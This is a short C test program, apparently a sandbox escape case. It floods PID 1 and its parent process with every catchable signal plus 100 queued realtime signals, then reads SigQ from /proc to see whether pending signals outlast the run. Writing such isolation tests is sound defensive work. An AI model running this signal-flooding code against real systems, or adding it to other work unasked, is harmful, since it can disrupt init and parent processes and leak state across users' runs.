/* SPDX-License-Identifier: MIT */
/*
 * attack: leaves signals pending at process 1 and at its parent.
 * expect: AC
 * why: Blocked signals are kept as long as the process lives, here longer than the run. The kernel
 *      counts them to the uid, and every process of it can read the number (SigQ).
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Signals that are queued for this uid, as /proc says; 0 without /proc. */
static long queued(void)
{
    FILE *status = fopen("/proc/self/status", "r");
    char line[256];
    long n = 0;

    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "SigQ:", 5) == 0)
            n = atol(line + 5);
    if (status)
        fclose(status);
    return n;
}

int main(void)
{
    const union sigval value = {.sival_int = 1};
    long before = queued();

    for (int sig = 1; sig < 32; sig++)
        if (sig != SIGKILL && sig != SIGSTOP) {
            kill(1, sig);
            kill(getppid(), sig);
        }
    for (int i = 0; i < 100; i++) {
        sigqueue(1, SIGRTMIN + 5, value);
        sigqueue(getppid(), SIGRTMIN + 5, value);
    }
    if (before > 0 || queued() > before)
        printf("ESCAPED %ld, then %ld signals wait\n", before, queued());
    else
        puts("denied");
    return 0;
}
